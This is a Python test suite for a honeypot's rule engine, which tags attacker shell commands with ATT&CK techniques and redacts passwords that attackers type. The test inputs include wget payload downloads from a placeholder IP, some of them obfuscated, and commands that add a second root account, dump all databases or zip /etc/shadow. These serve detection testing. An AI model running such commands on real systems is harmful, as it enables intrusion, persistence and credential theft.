"""Tag ids, strict loading, matching, shell views, stores and states."""

from __future__ import annotations

import asyncio
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from decnet.bus.base import Event, matches
from decnet.home import packaged_rules_dir
from decnet.ids import tag_id
from decnet.shell.views import views
from decnet.ttp.base import KNOWN_SOURCE_KINDS, TaggerEvent
from decnet.ttp.conditions import compare
from decnet.ttp.loader import load_bytes, load_dir
from decnet.ttp.offline import OfflineTagger
from decnet.ttp.rule_engine import RuleEngine
from decnet.ttp.rules import RuleState
from decnet.ttp.selftest import run_rule_tests
from decnet.ttp.store.impl.filesystem import FilesystemRuleStore
from decnet.ttp.worker import _TOPICS
from tests.packkit import pack
from tests.wirekit import judged

GOOD = """rule_id: R0001
rule_version: 1
name: demo
description: d
applies_to: [command]
match: {pattern: '\\bwget\\b'}
emits:
  - {tactic: TA0011, technique_id: T1105, confidence: 0.8}
"""
PACK = load_dir(packaged_rules_dir())
OFFLINE = OfflineTagger(packaged_rules_dir())


def test_golden_tag_id():
    assert tag_id("command", "c1", "R0001", 1, "T1059", "T1059.004") == "640a96c8-5aae-56d3-ab9c-5450045bb363"


def test_shipped_rules_load_and_pass_their_own_tests():
    assert not PACK.errors
    assert len(PACK.rules) >= 45
    assert not run_rule_tests(PACK.rules)


@pytest.mark.parametrize(
    ("text", "line", "column", "words"),
    [
        (GOOD + "extra: 1\n", 9, 1, "unknown key 'extra'"),
        (GOOD.replace("pattern:", "regx:"), 6, 9, "unknown key 'regx'"),
        (GOOD + "name: x\n", 9, 1, "duplicate key"),
        (GOOD.replace("rule_version: 1", "rule_version: one"), 2, 15, "integer"),
        (GOOD.replace("rule_version: 1", "rule_version: true"), 2, 15, "integer"),
        (GOOD.replace("[command]", "[comand]"), 5, 13, "unknown source kind"),
        (GOOD.replace("0.8", "1.8"), 8, 55, "confidence"),
        (GOOD.replace("0.8", "yes"), 8, 55, "confidence"),
        (GOOD.replace("'\\bwget\\b'", "'(?=x)'"), 6, 18, "lookaround"),
        (GOOD.replace("'\\bwget\\b'", "'(a)\\1'"), 6, 18, "back-references"),
        (GOOD.replace("'\\bwget\\b'", "'(a'"), 6, 18, "bad pattern"),
        (GOOD.replace("T1105", "T9999"), 8, 36, "unknown in ATT&CK"),
        (GOOD.replace("TA0011", "TA0007"), 8, 14, "does not belong"),
        (GOOD.replace("d\n", "&a d\n", 1).replace("name: demo", "name: demo"), 4, 14, "anchor"),
        (GOOD.replace("description: d", "description: *a"), 4, 14, "alias"),
        (GOOD.replace("name: demo\n", ""), 1, 1, "missing key 'name'"),
        ("- a\n", 1, 1, "a rule is a mapping"),
        ("", 1, 1, "empty"),
        (GOOD + "tests: " + "[" * 60 + "]" * 60 + "\n", 9, 57, "nesting over 50"),
        (GOOD + "x: 'open\n", 10, 1, "not YAML"),
        (GOOD + "---\na: 1\n", 9, 1, "only one document"),
    ],
)
def test_broken_files_name_their_place(text, line, column, words):
    rule, errors = load_bytes(text.encode(), "R.yaml")
    assert rule is None
    assert any(words in e.message for e in errors), [str(e) for e in errors]
    assert (line, column) in {(e.place.line, e.place.column) for e in errors}, [str(e) for e in errors]


def test_one_bad_file_costs_no_other(tmp_path: Path):
    (tmp_path / "a.yaml").write_text(GOOD)
    (tmp_path / "b.yaml").write_bytes(b"name: \xff")
    result = load_dir(tmp_path)
    assert [r.rule_id for r in result.rules] == ["R0001"]
    assert len(result.errors) == 1


@pytest.mark.parametrize(
    ("line", "technique"),
    [
        ("uname -a", "T1082"),
        ("w''get http://203.0.113.1/x", "T1105"),
        ("sudo -u x bash -c 'wget http://203.0.113.1/x'", "T1105"),
        ("echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjEvYQ== | base64 -d", "T1105"),
        ("crontab -l", "T1007"),
        ("a;" * 400 + "wget http://203.0.113.1/x", "T1027"),
    ],
)
def test_lines_are_tagged(line, technique):
    assert technique in {tag["technique_id"] for tag in OFFLINE.tag_line(line)}


@settings(deadline=None, max_examples=60)
@given(st.text(max_size=300))
def test_any_text_has_views_and_tags(text):
    assert views(text).views[0].text == text
    assert isinstance(OFFLINE.tag_line(text), list)


ENGINE = RuleEngine()
ENGINE.replace(PACK.rules, {})
_JSON = st.recursive(st.none() | st.booleans() | st.floats() | st.integers() | st.text(), st.lists)


@settings(deadline=None, max_examples=60)
@given(st.sampled_from(sorted(KNOWN_SOURCE_KINDS)), st.dictionaries(st.text(), _JSON, max_size=5))
def test_any_payload_gives_a_list(kind, payload):
    assert isinstance(ENGINE.evaluate(TaggerEvent(kind, "s", "a", payload=payload)), list)


@pytest.mark.parametrize(
    "text", ["a" * 100_000, "$(" * 50_000, "`" * 100_000, "a;" * 50_000, "wget " * 20_000]
)
def test_long_lines_are_linear(text):
    start = time.monotonic()
    OFFLINE.tag_line(text)
    assert time.monotonic() - start < 10


def test_nested_quantifiers_are_fast():
    rule, errors = load_bytes(GOOD.replace("\\bwget\\b", "(a+)+$").encode(), "R.yaml")
    assert rule
    assert not errors
    engine = RuleEngine()
    engine.replace([rule], {})
    start = time.monotonic()
    engine.evaluate(TaggerEvent("command", "s", "a", payload={"command_text": "a" * 100_000 + "!"}))
    assert time.monotonic() - start < 2


def test_states_expire_by_the_clock():
    rule, _ = load_bytes(GOOD.encode(), "R.yaml")
    assert rule
    end = datetime(2026, 1, 1, tzinfo=UTC)
    engine = RuleEngine()
    engine.replace([rule], {"R0001": RuleState("disabled", expires_at=end)})
    event = TaggerEvent("command", "s", "a", payload={"command_text": "wget x"})
    assert not engine.evaluate(event, now=end - timedelta(seconds=1))
    assert len(engine.evaluate(event, now=end)) == 1
    engine.replace([rule], {"R0001": RuleState("clipped", 0.5)})
    assert [t.confidence for t in engine.evaluate(event)] == [0.5]


async def test_files_are_followed(tmp_path: Path):
    path = tmp_path / "a.yaml"
    path.write_text(GOOD)
    for i in (2, 3):
        (tmp_path / f"b{i}.yaml").write_text(GOOD.replace("R0001", f"R000{i}"))
    store = FilesystemRuleStore(tmp_path, debounce_s=0.05, rescan_s=0.3)
    await store.load_compiled()
    changes = store.subscribe_changes()
    task = asyncio.create_task(store.follow())
    try:
        await asyncio.sleep(0.2)
        path.write_text(GOOD.replace("version: 1", "version: 2"))
        first = await asyncio.wait_for(anext(changes), 3)
        assert (first.change_kind, first.new_value.rule_version) == ("definition", 2)
        scratch = tmp_path / ".a.yaml.swp"
        scratch.write_text(GOOD.replace("version: 1", "version: 3"))
        scratch.rename(path)
        assert (await asyncio.wait_for(anext(changes), 3)).new_value.rule_version == 3
        path.unlink()
        assert (await asyncio.wait_for(anext(changes), 3)).change_kind == "removed"
    finally:
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)


async def test_a_bad_edit_keeps_the_last_good_version(tmp_path: Path):
    path = tmp_path / "a.yaml"
    path.write_text(GOOD)
    store = FilesystemRuleStore(tmp_path)
    await store.load_compiled()
    path.write_text("name: [")
    assert not await store.rescan()
    assert [r.rule_id for r in store.rules()] == ["R0001"]
    assert store.errors()


def test_session_gives_session_commands_and_auth():
    payload = {
        "session_id": "s",
        "attacker_ip": "203.0.113.1",
        "commands": [{"id": "c", "command_text": "id"}, {"command_text": "w"}],
        "auth": {"fail_count": 3},
        "ended_at": 5.0,
    }
    got = [(e.source_kind, e.source_id) for e in judged(Event("attacker.session.ended", payload))]
    assert got == [("session", "s"), ("command", "c"), ("command", "s#cmd1"), ("auth_attempt", "s")]


def test_the_worker_does_not_hear_itself():
    published = ("ttp.tagged", "ttp.rule.fired.T1105")
    assert not any(matches(p, t) for p in _TOPICS for t in published)


@pytest.mark.parametrize(
    ("address", "inside"),
    [
        ("192.0.2.7", True),
        ("::ffff:192.0.2.7", True),
        ("::ffff:198.51.100.7", False),
        ("fe80::1%eth0", False),
    ],
)
def test_an_address_range_holds_what_a_socket_for_both_families_tells(address: str, inside: bool) -> None:
    found = compare("src", "cidr", "192.0.2.0/24").find({"src": address}.get)
    assert (found is not None) is inside


@pytest.mark.parametrize(
    "line",
    [
        'echo "root:hunter2hunter"|chpasswd|bash',
        'echo -e "hunter2hunter\\nhunter2hunter" | passwd bob',
        "useradd -o -u 0 -p hunter2hunter bob",
        "mysqldump -u root -phunter2hunter --all-databases > /tmp/x",
        "sshpass -p hunter2hunter ssh -o StrictHostKeyChecking=no root@192.0.2.1",
        "echo aHVudGVy | base64 -d; zip -P hunter2hunter /tmp/x.zip /etc/shadow",
    ],
)
def test_no_evidence_of_the_shipped_rules_shows_a_password_that_was_typed(line: str) -> None:
    engine = RuleEngine()
    engine.replace(pack().rules, {})
    tags = engine.evaluate(TaggerEvent("command", "c", "a", payload={"command_text": line}))
    assert tags
    assert not [tag.rule_id for tag in tags if "hunter2" in str(tag.evidence)]
